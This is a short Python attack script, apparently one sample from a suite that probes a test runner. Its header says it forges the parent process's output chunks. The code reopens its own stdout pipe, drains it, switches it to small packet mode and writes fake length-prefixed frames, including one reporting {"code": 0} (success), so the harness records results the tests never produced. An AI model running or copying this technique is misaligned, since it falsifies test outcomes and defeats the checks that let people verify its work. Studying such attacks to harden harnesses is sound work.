# /// attack
# slow = true
# tries = "opens its standard output anew to read it, empties it, makes it tiny and packet-wise, and writes what looks like the parent's chunks"
# fails = []
# keeps = ["gpt.*", "matmul.*", "scan.*"]
# ///
import fcntl as _fcntl
import os as _os
import struct as _struct

try:
    _end = _os.open("/proc/self/fd/1", _os.O_RDONLY | _os.O_NONBLOCK)
    _write = _os.open("/proc/self/fd/1", _os.O_WRONLY | _os.O_NONBLOCK)
    _fcntl.fcntl(_write, _fcntl.F_SETFL, _os.O_NONBLOCK | 0o40000)  # O_DIRECT
    for _fd in (1, _end, _write):
        try:
            _fcntl.fcntl(_fd, 1031, 4096)  # F_SETPIPE_SZ
        except OSError as _error:
            print(_error)
    for _kind, _data in ((b"X", b'{"code": 0}'), (b"R", b"0" * 16), (b"L", b"WO"), (b"D", b"\0" * 64)):
        for _ in range(200):
            try:
                _os.write(_write, _struct.pack(">cI", _kind, len(_data)) + _data)
                _os.read(_end, 1 << 16)
            except BlockingIOError:
                pass
    _os.set_blocking(1, False)
except OSError as _error:
    print(_error)
